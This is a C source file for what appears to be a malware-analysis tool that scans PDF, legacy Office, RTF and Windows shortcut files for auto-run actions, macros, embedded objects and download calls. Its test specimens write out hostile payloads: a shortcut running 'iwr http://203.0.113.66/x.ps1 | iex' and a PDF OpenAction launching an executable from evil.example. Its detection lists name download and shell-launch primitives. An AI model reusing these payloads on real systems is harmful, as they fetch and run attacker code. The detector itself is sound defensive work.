/*
 * Documents and links that carry attacks: what in them runs, fetches or hides something.
 *
 * Not readers of the formats: PDF, old Office files, RTF and Windows' shortcuts are searched for the few things by
 * which they do harm.  Streams of a PDF that are packed with zlib are unpacked and become parts; so do
 * programs that lie in any of them as they are, and what RTF spells in hexadecimal.
 */
#include "lab/analyser.h"
#include "lab/type.h"
#include "base/little.h"
#include <zlib.h>

#define STREAMS_MAX 64
#define STREAM_BYTES_MAX (4u << 20)
#define OBJECTS_MAX 32
#define HEX_MIN 512
#define LINK_TEXT_MAX 1024
#define NAMES_TOLD_MAX 64

struct mark {
	const char *word, *means;
};

static void marks_look(struct analysis *a, struct bytes b, const char *fact, const struct mark *marks, size_t count)
{
	for (size_t i = 0; i < count; i++)
		if (bytes_find(b, marks[i].word) < b.len)
			analysis_fact(a, fact, "%s: %s", marks[i].word, marks[i].means);
}

static struct bytes from(struct bytes b, size_t at)
{
	return at < b.len ? (struct bytes){b.at + at, b.len - at} : (struct bytes){0};
}

/* zlib's stream, as far as it goes: the end of a damaged one is lost, its beginning is not. */
static void stream_unpack(struct analysis *a, struct bytes b)
{
	size_t room = analysis_room(a) < STREAM_BYTES_MAX ? analysis_room(a) : STREAM_BYTES_MAX;
	struct buffer out = BUFFER(room);
	z_stream z = {.next_in = (Bytef *)b.at, .avail_in = (uInt)b.len};
	int status = inflateInit(&z);
	while (status == Z_OK) {
		size_t left = room - buffer_len(&out), want = left < 65536 ? left : 65536;
		uint8_t *at = want ? buffer_room(&out, want) : NULL;
		if (!at) {
			analysis_limit(a, "document.stream");
			break;
		}
		z.next_out = at;
		z.avail_out = (uInt)want;
		status = inflate(&z, Z_NO_FLUSH);
		buffer_grown(&out, want - z.avail_out);
	}
	inflateEnd(&z);
	analysis_contains(a, "stream", buffer_bytes(&out), true);
	buffer_done(&out);
}

static void pdf_analyse(struct analysis *a, const struct part *part)
{
	static const struct mark marks[] = {
		{"/JavaScript", "runs a script"}, {"/JS", "runs a script"}, {"/OpenAction", "does something when it is opened"},
		{"/AA", "does something on events"}, {"/Launch", "starts a program"}, {"/EmbeddedFile", "carries a file"},
		{"/URI", "links to addresses"}, {"/SubmitForm", "sends what is filled in"}, {"/RichMedia", "carries Flash"},
		{"/ObjStm", "hides objects in streams"}, {"/JBIG2Decode", "a decoder with a history of flaws"}, {"/Encrypt", "is encrypted"}};
	struct bytes rest = part->content;
	size_t streams = 0;
	marks_look(a, rest, "pdf.has", marks, sizeof marks / sizeof *marks);
	for (size_t at; (at = bytes_find(rest, "stream")) < rest.len;) {
		bool end = at >= 3 && !memcmp(rest.at + at - 3, "end", 3);
		rest = from(rest, at + 6);
		while (rest.len && (rest.at[0] == '\r' || rest.at[0] == '\n'))
			rest = from(rest, 1);
		/* RFC 1950 2.2: deflate in the low half, and a multiple of 31. */
		if (end || rest.len < 8 || (rest.at[0] & 15) != 8 || (rest.at[0] * 256 + rest.at[1]) % 31)
			continue;
		if (streams++ == STREAMS_MAX) {
			analysis_limit(a, "document.streams");
			return;
		}
		stream_unpack(a, rest);
	}
}

/* Names of streams lie in the directory of the file within the file, in UTF-16 ([MS-CFB] 2.6). */
static void ole_names_look(struct analysis *a, struct bytes b)
{
	unsigned shift = (unsigned)bytes_little(b, 30, 2);
	uint64_t sector = shift >= 7 && shift <= 12 ? 1ull << shift : 512, at = (bytes_little(b, 48, 4) + 1) * sector;
	for (unsigned i = 0; i < NAMES_TOLD_MAX && at + 128 <= b.len; i++, at += 128) {
		char name[33];
		size_t n = bytes_little(b, at + 64, 2) / 2, k = 0;
		uint64_t kind = bytes_little(b, at + 66, 1);
		if (kind < 1 || kind > 5 || n < 2 || n > 32)
			return;
		for (; k + 1 < n; k++) {
			uint64_t c = bytes_little(b, at + 2 * k, 2);
			name[k] = c >= 0x20 && c < 0x7f ? (char)c : '?';
		}
		name[k] = 0;
		analysis_fact(a, "ole.stream", "%s, %llu bytes", name, (unsigned long long)bytes_little(b, at + 120, 4));
	}
}

static void ole_analyse(struct analysis *a, const struct part *part)
{
	static const struct mark marks[] = {
		{"VBA7", "has macros"}, {"Auto_Open", "runs when it is opened"},
		{"AutoOpen", "runs when it is opened"}, {"Document_Open", "runs when it is opened"}, {"Workbook_Open", "runs when it is opened"},
		{"Document_Close", "runs when it is closed"}, {"Shell", "starts programs"}, {"CreateObject", "makes objects"},
		{"URLDownloadToFile", "fetches files"}, {"powershell", "starts PowerShell"}, {"MSXML2", "speaks HTTP"},
		{"WinHttp", "speaks HTTP"}, {"ADODB.Stream", "writes files"}, {"Environ", "looks at the environment"}};
	static const uint8_t project[] = {'V', 0, 'B', 0, 'A', 0, 0, 0};
	struct bytes b = part->content;
	if (memmem(b.at, b.len, project, sizeof project))
		analysis_fact(a, "ole.has", "VBA: macros");
	if (memmem(b.at, b.len, "E\0q\0u\0a\0t\0i\0o\0n", 15))
		analysis_fact(a, "ole.has", "Equation: an editor with a history of flaws (CVE-2017-11882)");
	marks_look(a, b, "ole.has", marks, sizeof marks / sizeof *marks);
	ole_names_look(a, b);
}

static int hex_digit(uint8_t c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	return (c | 0x20) >= 'a' && (c | 0x20) <= 'f' ? (c | 0x20) - 'a' + 10 : -1;
}

/* RTF spells objects in hexadecimal, with white space anywhere. */
static void rtf_analyse(struct analysis *a, const struct part *part)
{
	static const struct mark marks[] = {
		{"\\objdata", "carries an object"}, {"\\objupdate", "loads its object at once"}, {"\\objautlink", "links to an object"},
		{"\\ddeauto", "starts a program"}, {"\\template", "loads a template from elsewhere"}};
	struct bytes b = part->content;
	size_t objects = 0;
	marks_look(a, b, "rtf.has", marks, sizeof marks / sizeof *marks);
	for (size_t i = 0; i < b.len && objects < OBJECTS_MAX;) {
		size_t end = i, digits = 0;
		while (end < b.len && (hex_digit(b.at[end]) >= 0 || b.at[end] == '\n' || b.at[end] == '\r' || b.at[end] == ' '))
			digits += hex_digit(b.at[end++]) >= 0;
		uint8_t *out = digits >= HEX_MIN ? arena_alloc(analysis_arena(a), digits / 2 + 1) : NULL;
		for (size_t k = i, n = 0; out && k < end; k++)
			if (hex_digit(b.at[k]) >= 0) {
				out[n / 2] = (uint8_t)(out[n / 2] << 4 | hex_digit(b.at[k]));
				n++;
			}
		if (out) {
			objects++;
			analysis_contains(a, "object", (struct bytes){out, digits / 2}, false);
		}
		i = end + 1;
	}
}

/* A counted string of a shortcut: UTF-16, or bytes of the machine's own code page ([MS-SHLLINK] 2.4). */
static void link_text(struct analysis *a, struct reader *r, bool wide, const char *fact)
{
	char text[LINK_TEXT_MAX];
	size_t n = read_le16(r), k = 0;
	struct bytes b = read_bytes(r, wide ? 2 * n : n);
	for (size_t i = 0; i < b.len && k + 1 < sizeof text; i += wide ? 2 : 1) {
		bool plain = b.at[i] >= 0x20 && b.at[i] < 0x7f && (!wide || !bytes_little(b, i + 1, 1));
		text[k++] = plain ? (char)b.at[i] : '?';
	}
	text[k] = 0;
	if (!k)
		return;
	analysis_fact(a, fact, "%s", text);
	analysis_text(a, bytes_of_text(text), UINT64_MAX, fact, 80);
	if (strlen(text) > 260)
		analysis_fact(a, "link.odd", "more text than the window for it shows: %zu characters", strlen(text));
}

static void link_analyse(struct analysis *a, const struct part *part)
{
	static const char *const parts[] = {"link.name", "link.path", "link.folder", "link.arguments", "link.icon"};
	struct reader r = reader_of_bytes(part->content);
	read_bytes(&r, 20);
	uint32_t flags = read_le32(&r);
	read_bytes(&r, 76 - 24);
	if (flags & 1)
		read_bytes(&r, read_le16(&r)); /* the target as a list of ids */
	if (flags & 2) {
		uint32_t size = read_le32(&r);
		struct bytes where = read_bytes(&r, size > 4 ? size - 4 : 0);
		/* LocalBasePath: where on the disk it leads. */
		uint64_t path = bytes_little(where, 12, 4);
		if (path > 4 && path - 4 < where.len) {
			const char *at = (const char *)where.at + path - 4;
			analysis_fact(a, "link.target", "%.*s", (int)strnlen(at, where.len - (path - 4)), at);
		}
	}
	for (unsigned i = 0; i < sizeof parts / sizeof *parts; i++)
		if (flags & 4u << i)
			link_text(a, &r, flags & 0x80, parts[i]);
	if (!reader_ok(&r))
		analysis_fact(a, "link.damaged", "it ends within its texts");
}

static const char *const pdf_types[] = {"pdf", NULL}, *const ole_types[] = {"ole", NULL}, *const rtf_types[] = {"rtf", NULL},
	*const link_types[] = {"lnk", NULL};
#define SPECIMEN(bytes) {(const uint8_t *)(bytes), sizeof(bytes) - 1}
static const struct lab_specimen link_specimens[] = {
	{"a shortcut that starts PowerShell",
	 SPECIMEN("L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46\x20\0\0\0"
		  "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
		  "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
		  "\x28\0" "-c iwr http://203.0.113.66/x.ps1 | iex  "),
	 "fact link.arguments -c iwr http://203.0.113.66/x.ps1 | iex  \nindicator url http://203.0.113.66/x.ps1 link.arguments"},
	{0},
};
static const struct lab_specimen pdf_specimens[] = {
	{"a document that runs something when it is opened",
	 SPECIMEN("%PDF-1.5\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.launchURL('http://evil.example/a.exe'))>>>>endobj\n"),
	 "fact pdf.has /OpenAction: does something when it is opened\nindicator url http://evil.example/a.exe text"},
	{0},
};

static const struct analyser pdf = {
	.name = "pdf", .summary = "scripts, actions, files and packed streams in PDF", .reference = "ISO 32000-1",
	.types = pdf_types, .analyse = pdf_analyse, .specimens = pdf_specimens,
};
ANALYSER(pdf);

static const struct analyser ole = {
	.name = "ole", .summary = "macros and streams in old Office files", .reference = "[MS-CFB], [MS-OVBA]",
	.types = ole_types, .analyse = ole_analyse,
};
ANALYSER(ole);

static const struct analyser rtf = {
	.name = "rtf", .summary = "objects in RTF", .reference = "Rich Text Format 1.9.1",
	.types = rtf_types, .analyse = rtf_analyse,
};
ANALYSER(rtf);

static const struct analyser shortcut = {
	.name = "lnk", .summary = "what a Windows shortcut starts", .reference = "[MS-SHLLINK]",
	.types = link_types, .analyse = link_analyse, .specimens = link_specimens,
};
ANALYSER(shortcut);
